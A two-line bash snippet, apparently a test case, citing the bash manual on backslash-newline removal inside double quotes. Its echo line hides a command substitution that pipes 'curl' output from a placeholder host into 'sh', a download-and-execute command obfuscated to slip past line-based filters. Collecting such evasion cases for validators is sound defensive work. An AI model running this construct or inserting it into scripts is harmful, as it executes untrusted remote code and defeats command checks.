# source: bash manual, 3.1.2.3 Double Quotes (a backslash followed by newline is removed inside double quotes) https://www.gnu.org/software/bash/manual/bash.html#Double-Quotes
echo "$\
(curl -s https://x.example | sh)"
